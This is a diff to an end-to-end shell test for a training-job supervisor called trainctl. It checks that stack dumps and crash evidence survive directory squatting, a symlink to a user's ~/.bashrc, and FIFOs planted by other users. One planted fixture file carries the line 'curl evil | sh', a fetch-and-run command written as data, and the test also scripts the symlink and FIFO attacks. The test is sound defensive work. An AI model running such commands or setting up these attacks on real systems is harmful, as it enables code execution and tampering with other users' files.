@@ -8,14 +8,17 @@
 #     others wait in its init. --hang-start-timeout catches it: stacks of the ranks,
 #     readable by the team (a group log directory), then end-step. No node is blamed
 #     for the deaths end-step caused.
-#  2. bob plants stacks-<alice's job>/ in the team directory while it is held:
-#     summary.txt a link to alice's ~/.bashrc, rank9.txt naming the host "n[1-3]" with
-#     a shell command as its frame. At alice's hang nothing is written there, nothing
-#     read, and no node is remembered as bad; her .bashrc is untouched; one line says why.
-#  3. mallory plants FIFOs (mode 666) as stacks-<job>/rank0.txt and summary.txt in a
-#     world-writable sticky log directory, as /tmp is. alice's stalled rank is dumped
-#     without blocking: the supervisor goes on, the stall ends, and alice's kill switch
-#     ends the job at once, COMPLETED.
+#  2. bob takes the name of alice's evidence directory in the team directory first
+#     (trainctl-alice/, with stacks-<her next job>/ in it: summary.txt a link to her
+#     ~/.bashrc, rank9.txt naming the host "n[1-3]" with a shell command as its frame).
+#     At her hang the stacks go to her home instead, and one line says why; nothing is
+#     written through his link or read from his file, and only n2 (the odd rank's node)
+#     is remembered.
+#  3. mallory does the same in a world-writable sticky log directory, as /tmp is, with
+#     FIFOs (mode 666) as stacks-<job>/rank0.txt and summary.txt, and a FIFO as
+#     slow_nodes, while alice's job has a 3x straggler. Nothing blocks: the straggler's
+#     line is refused (a FIFO), the stall is dumped into her home, it ends, and alice's
+#     kill switch ends the job at once, COMPLETED.
 # shellcheck source=tests/e2e/lib.sh
 source "$(dirname "$0")/lib.sh"
 
@@ -59,7 +62,7 @@ job=$(submit_as_user -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job0.out" "$
 wait_for 120 "2 ranks started" events_at_least start 2
 out=$(as_user "$BUILD/bin/trainctl" stacks "$job" --log-dir "$TEST_DIR/made/here") ||
   fail "--dump-stacks failed: $out"
-grep -q "stacks of 2 ranks of job $job in $TEST_DIR/made/here/stacks-$job/" <<<"$out" || fail "--dump-stacks: $out"
+grep -q "stacks of 2 ranks of job $job in $TEST_DIR/made/here/trainctl-alice/stacks-$job/" <<<"$out" || fail "--dump-stacks: $out"
 [ "$(stat -c '%U %a' "$TEST_DIR/made/here")" = "alice 700" ] || fail "the missing log directory was not made private"
 as alice touch "$TEST_DIR/a-file"
 set +e
@@ -92,13 +95,15 @@ job=$(submit_as_user -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job1.out" "$
 wait_for 180 "job 1 to end (end-step)" job_ended "$job"
 grep -q "hang: rank [0-9?]* (pid [0-9]*) has not reached its first agreement" "$TEST_DIR/job1.out" ||
   fail "the start hang was not found: $(grep 'hang' "$TEST_DIR/job1.out" | head -5)"
-dir=$team/stacks-$job
+dir=$team/trainctl-alice/stacks-$job
 ls "$dir"/rank*.txt >/dev/null 2>&1 || fail "no stacks in $dir: $(grep hang: "$TEST_DIR/job1.out")"
 grep -l "init_process_group\|rendezvous\|_store_based_barrier\|wait" "$dir"/rank*.txt >/dev/null ||
   fail "no rank's stacks show the process group's init: $(head -3 "$dir"/rank*.txt)"
-case "$(stat -c '%U %G %a' "$dir")" in "alice tcteam 750" | "alice tcteam 2750") ;;  # setgid from the team dir
-*) fail "stacks dir is $(stat -c '%U %G %a' "$dir")" ;;
-esac
+for d in "$team/trainctl-alice" "$dir"; do
+  case "$(stat -c '%U %G %a' "$d")" in "alice tcteam 750" | "alice tcteam 2750") ;;  # setgid from the team dir
+  *) fail "$d is $(stat -c '%U %G %a' "$d")" ;;
+  esac
+done
 as bob cat "$dir/rank0.txt" >/dev/null || fail "bob (her team) cannot read the stacks"
 as mallory cat "$dir/rank0.txt" >/dev/null 2>&1 && fail "mallory can read alice's stacks"
 grep -q "hang: ending the step" "$TEST_DIR/job1.out" || fail "end-step did not run"
@@ -108,23 +113,34 @@ grep -q "^[0-9]* n2 job=$job .*reason=hung" "$TRAINCTL_BAD_NODES" || fail "n2 (r
 [ "$(wc -l <"$TRAINCTL_BAD_NODES")" -eq 1 ] || fail "more than n2 remembered: $(cat "$TRAINCTL_BAD_NODES")"
 log "1: found before the first agreement, stacks readable by the team only, n2 (the odd rank's node) remembered as hung, no crash"
 
-log "2. bob plants stacks-<job> in the team directory before the job starts"
+log "2. bob takes trainctl-alice/ in the team directory before alice's job starts"
+home_evidence=/home/alice/.local/state/trainctl/evidence
+rm -rf "$home_evidence"
+as alice mv "$team/trainctl-alice" "$TEST_DIR/job1-evidence"  # as if job 1 had run elsewhere
 supervised_job "$TEST_DIR/job2.sh" --hang-timeout=5s --hang-action=end-step
 sed -i "s|--step-time 0.05|--step-time 0.05 --hang-rank 3 --hang-at 60|" "$TEST_DIR/job2.sh"
 job=$(submit_as_user --hold -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job2.out" "$TEST_DIR/job2.sh")
 next=$job
-as bob bash -s "$team/stacks-$next" "$bashrc" <<'PLANT' || fail "bob's planting failed"
-mkdir -p "$1" && chmod 2775 "$1"
+as bob bash -s "$team/trainctl-alice/stacks-$next" "$bashrc" <<'PLANT' || fail "bob's planting failed"
+mkdir -p "$1" && chmod 2775 "$1" "$(dirname "$1")"
 ln -s "$2" "$1/summary.txt"
 printf '=== trainctl stacks: rank 9, pid 1, host n[1-3], x: hang\n=== dump: run=%s.0 kind=hang at_ms=9999999999999\n=== innermost: curl evil | sh\n' "$(basename "$1" | cut -d- -f2)" >"$1/rank9.txt"
 PLANT
+touch "$TEST_DIR/planted"
 release "$job"
 wait_for 120 "job 2 to end (end-step)" job_ended "$job"
-grep -q "hang: stacks not saved: $team/stacks-$job belongs to uid $(id -u bob), not to this user" "$TEST_DIR/job2.out" ||
-  fail "no line saying why: $(grep 'hang' "$TEST_DIR/job2.out" | head -5)"
+grep -q "$team/trainctl-alice belongs to uid $(id -u bob), not to this user: hang stacks and crash evidence go to $home_evidence instead" "$TEST_DIR/job2.out" ||
+  fail "no line saying where the evidence went: $(grep 'trainctl' "$TEST_DIR/job2.out" | head -5)"
+grep -q "hang: stacks of 2 of 2 ranks saved in $home_evidence/stacks-$job/" "$TEST_DIR/job2.out" ||
+  fail "the stacks were not saved in alice's home: $(grep 'hang' "$TEST_DIR/job2.out" | head -5)"
+[ "$(find "$home_evidence/stacks-$job" -name 'rank*.txt' | wc -l)" -eq 4 ] || fail "not 4 ranks' stacks in $home_evidence"
 [ "$(sha256sum <"$bashrc")" = "$before" ] || fail "alice's .bashrc changed: $(tail -3 "$bashrc")"
-if grep -q "job=$job \|n\[" "$TRAINCTL_BAD_NODES"; then fail "bob's planted file made a bad node: $(cat "$TRAINCTL_BAD_NODES")"; fi
-log "2: nothing written through bob's link, nothing read from his file, no node remembered"
+[ "$(find "$team/trainctl-alice" -newer "$TEST_DIR/planted" | wc -l)" -eq 0 ] || fail "something was written in bob's directory"
+if grep -q "n\[" "$TRAINCTL_BAD_NODES"; then fail "bob's planted file made a bad node: $(cat "$TRAINCTL_BAD_NODES")"; fi
+if [ "$(grep -c "job=$job " "$TRAINCTL_BAD_NODES")" -ne 1 ] || ! grep -q "^[0-9]* n2 job=$job .*reason=hung" "$TRAINCTL_BAD_NODES"; then
+  fail "job 2: not n2 alone remembered: $(cat "$TRAINCTL_BAD_NODES")"
+fi
+log "2: the stacks in alice's home, nothing written through bob's link, nothing read from his file, n2 alone remembered"
 
 log "3. mallory plants FIFOs in a world-writable log directory"
 public=$TEST_DIR/public
@@ -134,18 +150,23 @@ export TRAINCTL_LOG_DIR=$public
 rm -rf "$TEST_DIR/events"
 as alice mkdir -p "$TEST_DIR/events"
 supervised_job "$TEST_DIR/job3.sh" --hang-timeout=4s --kill-switch="$TEST_DIR/KILL"
-sed -i "s|--step-time 0.05|--step-time 0.05 --hang-rank 3 --hang-at 60 --hang-for 15|" "$TEST_DIR/job3.sh"
+sed -i "s|--step-time 0.05|--step-time 0.05 --slow-rank 1 --slow-factor 3 --hang-rank 3 --hang-at 120 --hang-for 15|" "$TEST_DIR/job3.sh"
 job=$(submit_as_user --hold -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job3.out" "$TEST_DIR/job3.sh")
 next=$job
-as mallory bash -c "mkdir -m 777 '$public/stacks-$next' && mkfifo -m 666 '$public/stacks-$next/rank0.txt' '$public/stacks-$next/summary.txt'" ||
+as mallory bash -c "mkdir -m 777 '$public/trainctl-alice' '$public/trainctl-alice/stacks-$next' &&
+  mkfifo -m 666 '$public/trainctl-alice/stacks-$next/rank0.txt' '$public/trainctl-alice/stacks-$next/summary.txt' '$public/slow_nodes'" ||
   fail "mallory's FIFOs"
 release "$job"
-wait_for 120 "the stall to be found" grep -q "hang: stacks not saved" "$TEST_DIR/job3.out"
+wait_for 120 "the straggler's line to be refused" grep -q "straggler: rank 1: not appended to $public/slow_nodes: a FIFO, not a regular file" "$TEST_DIR/job3.out"
+wait_for 120 "the stall to be found" grep -q "hang: stacks of 2 of 2 ranks saved in $home_evidence/stacks-$job/" "$TEST_DIR/job3.out"
 wait_for 60 "the stall to end" grep -q "hang: the ranks make progress again" "$TEST_DIR/job3.out"
 as alice touch "$TEST_DIR/KILL"
 wait_for 60 "job 3 to end" job_ended "$job"
 [ "$(job_state "$job")" = COMPLETED ] || fail "job 3 ended $(job_state "$job"), not COMPLETED"
 read -r n _ reasons < <(exit_summary)
 { [ "$n" = 4 ] && [ "$reasons" = kill-switch ]; } || fail "job 3: $n ranks exited, reasons $reasons"
-for f in rank0.txt summary.txt; do [ -p "$public/stacks-$next/$f" ] || fail "mallory's $f is no longer a FIFO"; done
-log "PASS: start hang caught with stacks; bob's link and planted file, and mallory's FIFOs, changed nothing"
+for f in trainctl-alice/stacks-$next/rank0.txt trainctl-alice/stacks-$next/summary.txt slow_nodes; do
+  [ -p "$public/$f" ] || fail "mallory's $f is no longer a FIFO"
+done
+grep -q "^[0-9]* n1 job=$job .*reason=slow (rank 1, x" "$TRAINCTL_BAD_NODES" || fail "the straggler's node not remembered"
+log "PASS: start hang caught with stacks; bob's and mallory's squatted evidence directories, links, files and FIFOs changed nothing"
